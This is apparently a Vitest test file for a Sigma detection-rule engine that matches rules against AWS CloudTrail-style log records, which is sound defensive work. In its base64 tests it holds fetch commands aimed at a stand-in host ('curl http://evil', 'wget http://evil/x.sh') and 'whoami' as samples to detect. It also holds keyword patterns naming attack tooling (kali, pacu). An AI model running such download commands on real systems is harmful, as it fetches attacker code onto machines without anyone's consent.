import { describe, expect, it } from 'vitest';
import { recordFields } from '../../../source/detect/sigma/index.js';
import { compile, match, type LogRecord } from './rules.js';

/** A one-selection rule on `item` (a YAML line or block under the selection). */
const selection = (item: string) =>
  compile(`    selection:
        ${item}
    condition: selection`);

const on = (item: string, record: LogRecord) => match(selection(item), record);

describe('plain values and wildcards', () => {
  it('* and ? are wildcards, escaped with a backslash', () => {
    expect(on(`userAgent: 'aws-cli/*'`, { userAgent: 'AWS-CLI/2.15.0 Python' })).toBe(true);
    expect(on(`userAgent: 'aws-cli/*'`, { userAgent: 'boto3/1.0 aws-cli/2' })).toBe(false);
    expect(on(`userName: 'adm?n'`, { userName: 'admin' })).toBe(true);
    expect(on(`userName: 'adm?n'`, { userName: 'adn' })).toBe(false);
    expect(on(`userName: 'a*b*c'`, { userName: 'axxbyyc' })).toBe(true);
    expect(on(`userName: 'a*b*c'`, { userName: 'axxcyyb' })).toBe(false);
    expect(on(`userName: 'what\\?'`, { userName: 'what?' })).toBe(true);
    expect(on(`userName: 'what\\?'`, { userName: 'whats' })).toBe(false);
    expect(on(`userName: 'star\\*'`, { userName: 'star*' })).toBe(true);
    expect(on(`userName: 'star\\*'`, { userName: 'stars' })).toBe(false);
  });

  it('backslashes: plain before other characters, \\\\* is a backslash then a wildcard', () => {
    expect(on(`path: 'C:\\Windows'`, { path: 'c:\\windows' })).toBe(true);
    expect(on(`path: 'C:\\\\Windows'`, { path: 'C:\\Windows' })).toBe(true);
    expect(on(`path: 'dir\\\\*'`, { path: 'dir\\anything' })).toBe(true);
    expect(on(`path: 'dir\\\\\\*'`, { path: 'dir\\*' })).toBe(true);
    expect(on(`path: 'dir\\\\\\*'`, { path: 'dir\\x' })).toBe(false);
  });

  it('a value list is an OR, |all makes it an AND', () => {
    expect(on(`eventName: [CreateUser, DeleteUser]`, { eventName: 'deleteuser' })).toBe(true);
    expect(on(`eventName: [CreateUser, DeleteUser]`, { eventName: 'GetUser' })).toBe(false);
    const both = `userAgent|contains|all: [aws-cli, Linux]`;
    expect(on(both, { userAgent: 'aws-cli/2 Python/3 Linux/6' })).toBe(true);
    expect(on(both, { userAgent: 'aws-cli/2 Python/3 Darwin' })).toBe(false);
  });

  it('startswith, endswith and contains, case-insensitive', () => {
    expect(on(`eventName|startswith: Delete`, { eventName: 'DELETEBucket' })).toBe(true);
    expect(on(`eventName|startswith: Delete`, { eventName: 'UndeleteBucket' })).toBe(false);
    expect(on(`eventName|endswith: Bucket`, { eventName: 'deletebucket' })).toBe(true);
    expect(on(`eventName|endswith: Bucket`, { eventName: 'BucketDelete' })).toBe(false);
    expect(on(`userAgent|contains: KALI`, { userAgent: 'aws-cli/1 kali-linux' })).toBe(true);
    expect(on(`userAgent|startswith|cased: aws`, { userAgent: 'AWS-cli' })).toBe(false);
  });

  it('numbers and booleans in the log compare by their text; rule numbers stay as written', () => {
    expect(on(`responseElements.count: 3`, { responseElements: { count: 3 } })).toBe(true);
    expect(on(`readOnly: 'true'`, { readOnly: true })).toBe(true);
    expect(on(`readOnly: false`, { readOnly: false })).toBe(true);
    expect(on(`readOnly: false`, { readOnly: true })).toBe(false);
    expect(on(`eventVersion: 1.10`, { eventVersion: '1.10' })).toBe(true);
    expect(on(`eventVersion: 1.10`, { eventVersion: '1.1' })).toBe(false);
    expect(on(`code: 0x17`, { code: '0x17' })).toBe(true);
    expect(on(`code: 0x17`, { code: 23 })).toBe(false);
  });

  it('null is absent or null; an empty string is only an empty string', () => {
    expect(on(`errorCode: null`, {})).toBe(true);
    expect(on(`errorCode: null`, { errorCode: null })).toBe(true);
    expect(on(`errorCode: null`, { errorCode: '' })).toBe(false);
    expect(on(`errorCode: ''`, { errorCode: '' })).toBe(true);
    expect(on(`errorCode: ''`, {})).toBe(false);
    expect(on(`errorCode: [null, Success]`, { errorCode: 'success' })).toBe(true);
  });

  it('dotted paths: nested objects, lists of objects, and keys that hold dots', () => {
    const record: LogRecord = {
      requestParameters: {
        instancesSet: { items: [{ instanceId: 'i-1' }, { instanceId: 'i-2' }] },
        'x.amz.key': 'dotted',
      },
    };
    expect(on(`requestParameters.instancesSet.items.instanceId: i-2`, record)).toBe(true);
    expect(on(`requestParameters.instancesSet.items.instanceId: i-3`, record)).toBe(false);
    expect(on(`requestParameters.x.amz.key: dotted`, record)).toBe(true);
    expect(recordFields(record)('requestParameters.missing.deeper')).toBeUndefined();
    expect(recordFields(record)('')).toBe(record);
  });

  it('an object field also offers its JSON text', () => {
    const record: LogRecord = { requestParameters: { bucketName: 'evidence', acl: null } };
    expect(on(`requestParameters|contains: '"bucketName":"evidence"'`, record)).toBe(true);
    expect(on(`requestParameters|contains: evidence`, record)).toBe(true);
    expect(on(`requestParameters|contains: '"bucketName":"other"'`, record)).toBe(false);
  });
});

describe('modifiers', () => {
  it('re is case-sensitive unless |i, with |m and |s, and a leading (?i)', () => {
    expect(on(`userAgent|re: '^Boto3/1\\.\\d+'`, { userAgent: 'Boto3/1.34 md' })).toBe(true);
    expect(on(`userAgent|re: '^Boto3/1\\.\\d+'`, { userAgent: 'boto3/1.34' })).toBe(false);
    expect(on(`userAgent|re|i: '^Boto3/1\\.\\d+'`, { userAgent: 'boto3/1.34' })).toBe(true);
    expect(on(`userAgent|re: '(?i)^boto3'`, { userAgent: 'BOTO3' })).toBe(true);
    expect(on(`note|re|m: '^second$'`, { note: 'first\nsecond\nthird' })).toBe(true);
    expect(on(`note|re: '^second$'`, { note: 'first\nsecond\nthird' })).toBe(false);
    expect(on(`note|re|s: 'first.second'`, { note: 'first\nsecond' })).toBe(true);
    expect(on(`note|re: 'first.second'`, { note: 'first\nsecond' })).toBe(false);
    expect(on(`note|re: 'a\\-b\\:c'`, { note: 'xa-b:cx' })).toBe(true);
  });

  it('re with outer .+ / .* runs keeps its meaning (they are trimmed for speed)', () => {
    const role = `arn|re: '.+:assumed-role/aws:.+'`;
    expect(on(role, { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' })).toBe(true);
    expect(on(role, { arn: ':assumed-role/aws:x' })).toBe(false);
    expect(on(role, { arn: 'arn:assumed-role/aws:' })).toBe(false);
    expect(on(`arn|re: '.*x.*'`, { arn: 'x' })).toBe(true);
    expect(on(`arn|re: 'abc\\.+'`, { arn: 'abc..' })).toBe(true);
    expect(on(`arn|re: 'abc\\.+'`, { arn: 'abcd' })).toBe(false);
    expect(on(`arn|re: '^.+b$'`, { arn: 'b' })).toBe(false);
  });

  it('case folding beyond ASCII', () => {
    expect(on(`userName: 'ÉLODIE'`, { userName: 'élodie' })).toBe(true);
    expect(on(`userName: kelvin`, { userName: 'KELVIN' })).toBe(true);
    expect(on(`userName: [kelvin, other]`, { userName: '\u212Aelvin' })).toBe(true);
    expect(on(`userName: istanbul`, { userName: '\u0130stanbul' })).toBe(false);
  });

  it('cidr: IPv4 (with anonymised leading zeros), IPv6 and IPv4-mapped addresses', () => {
    const internal = `sourceIPAddress|cidr: ['10.0.0.0/8', '192.168.0.0/16', 'fd00::/8']`;
    expect(on(internal, { sourceIPAddress: '10.20.30.40' })).toBe(true);
    expect(on(internal, { sourceIPAddress: '192.168.001.07' })).toBe(true);
    expect(on(internal, { sourceIPAddress: '11.0.0.1' })).toBe(false);
    expect(on(internal, { sourceIPAddress: 'fd12:3456::1' })).toBe(true);
    expect(on(internal, { sourceIPAddress: '2001:db8::1' })).toBe(false);
    expect(on(internal, { sourceIPAddress: '::ffff:10.1.2.3' })).toBe(true);
    expect(on(internal, { sourceIPAddress: 'AWS Internal' })).toBe(false);
    expect(on(internal, { sourceIPAddress: 'cloudtrail.amazonaws.com' })).toBe(false);
    expect(on(`sourceIPAddress|cidr: 2001:db8::/32`, { sourceIPAddress: '2001:DB8:0:1::5' })).toBe(
      true,
    );
    expect(on(`sourceIPAddress|cidr: 203.0.113.0/25`, { sourceIPAddress: '203.0.113.200' })).toBe(
      false,
    );
  });

  it('fieldref compares two fields of the event, case-insensitively unless |cased', () => {
    const same = `userIdentity.userName|fieldref: requestParameters.userName`;
    expect(
      on(same, { userIdentity: { userName: 'Bob' }, requestParameters: { userName: 'bob' } }),
    ).toBe(true);
    expect(
      on(same, { userIdentity: { userName: 'bob' }, requestParameters: { userName: 'eve' } }),
    ).toBe(false);
    expect(on(same, { userIdentity: { userName: 'bob' } })).toBe(false);
    const cased = `userIdentity.userName|fieldref|cased: requestParameters.userName`;
    expect(
      on(cased, { userIdentity: { userName: 'Bob' }, requestParameters: { userName: 'bob' } }),
    ).toBe(false);
    const suffix = `userIdentity.arn|fieldref|endswith: requestParameters.userName`;
    expect(
      on(suffix, {
        userIdentity: { arn: 'arn:aws:iam::1:user/bob' },
        requestParameters: { userName: 'bob' },
      }),
    ).toBe(true);
  });

  it('exists checks presence only: a field logged as null exists', () => {
    expect(on(`errorCode|exists: true`, { errorCode: 'AccessDenied' })).toBe(true);
    expect(on(`errorCode|exists: true`, {})).toBe(false);
    expect(on(`errorCode|exists: false`, {})).toBe(true);
    expect(on(`requestParameters|exists: true`, { requestParameters: null })).toBe(true);
  });

  it('gt, gte, lt and lte compare numbers; text that is not a number never matches', () => {
    expect(on(`responseElements.count|gt: 10`, { responseElements: { count: 11 } })).toBe(true);
    expect(on(`responseElements.count|gt: 10`, { responseElements: { count: '10' } })).toBe(false);
    expect(on(`responseElements.count|gte: 10`, { responseElements: { count: '10' } })).toBe(true);
    expect(on(`responseElements.count|lt: 1.5`, { responseElements: { count: 1 } })).toBe(true);
    expect(on(`responseElements.count|lte: 1`, { responseElements: { count: 2 } })).toBe(false);
    expect(on(`responseElements.count|lt: 5`, { responseElements: { count: 'many' } })).toBe(false);
  });

  it('neq: the field differs from every value (an absent field differs too)', () => {
    expect(on(`awsRegion|neq: [us-east-1, eu-west-1]`, { awsRegion: 'ap-south-1' })).toBe(true);
    expect(on(`awsRegion|neq: [us-east-1, eu-west-1]`, { awsRegion: 'EU-WEST-1' })).toBe(false);
    expect(on(`awsRegion|neq: us-east-1`, {})).toBe(true);
  });

  it('time modifiers read a number out of the timestamp, in UTC', () => {
    expect(on(`eventTime|hour|gte: 22`, { eventTime: '2024-08-02T23:53:24Z' })).toBe(true);
    expect(on(`eventTime|hour|gte: 22`, { eventTime: '2024-08-02T08:53:24Z' })).toBe(false);
    expect(on(`eventTime|month: 8`, { eventTime: '2024-08-02T08:53:24Z' })).toBe(true);
    expect(on(`eventTime|week: 1`, { eventTime: '2024-01-03T00:00:00Z' })).toBe(true);
    expect(on(`eventTime|year: 2024`, { eventTime: 'not a time' })).toBe(false);
  });

  it('windash folds every switch character', () => {
    const flag = `commandLine|windash|contains: ' -force'`;
    expect(on(flag, { commandLine: 'tool /force' })).toBe(true);
    expect(on(flag, { commandLine: 'tool \u2013force' })).toBe(true);
    expect(on(flag, { commandLine: 'tool force' })).toBe(false);
  });

  it('base64, base64offset and UTF-16 encodings', () => {
    const encoded = Buffer.from('curl http://evil').toString('base64');
    expect(on(`payload|base64: 'curl http://evil'`, { payload: encoded })).toBe(true);
    expect(on(`payload|base64: 'curl http://evil'`, { payload: encoded.toLowerCase() })).toBe(
      false,
    );
    const inner = `payload|base64offset|contains: 'http://evil'`;
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const text = Buffer.from(`${prefix}wget http://evil/x.sh`).toString('base64');
      expect(on(inner, { payload: text })).toBe(true);
    }
    expect(on(inner, { payload: Buffer.from('http://good/x.sh').toString('base64') })).toBe(false);
    const wide = Buffer.from('whoami', 'utf16le').toString('base64');
    expect(on(`payload|wide|base64: whoami`, { payload: wide })).toBe(true);
  });
});

describe('keywords', () => {
  const keywords = compile(`    keywords:
        - 'kali'
        - 'pacu'
    condition: keywords`);

  it('a keyword list searches every string value of the record', () => {
    expect(match(keywords, { userAgent: 'aws-cli/2 Linux/6.1.0-kali7-amd64' })).toBe(true);
    expect(match(keywords, { requestParameters: { tags: [{ value: 'PACU session' }] } })).toBe(
      true,
    );
    expect(match(keywords, { userAgent: 'aws-cli/2 Linux' })).toBe(false);
    expect(keywords.eventNames).toBeUndefined();
  });

  it("'|all' keywords must all appear", () => {
    const both = compile(`    keywords:
        '|all':
            - 'aws-cli'
            - 'kali'
    condition: keywords`);
    expect(match(both, { userAgent: 'aws-cli/2', sourceIPAddress: 'kali.example' })).toBe(true);
    expect(match(both, { userAgent: 'aws-cli/2' })).toBe(false);
  });
});
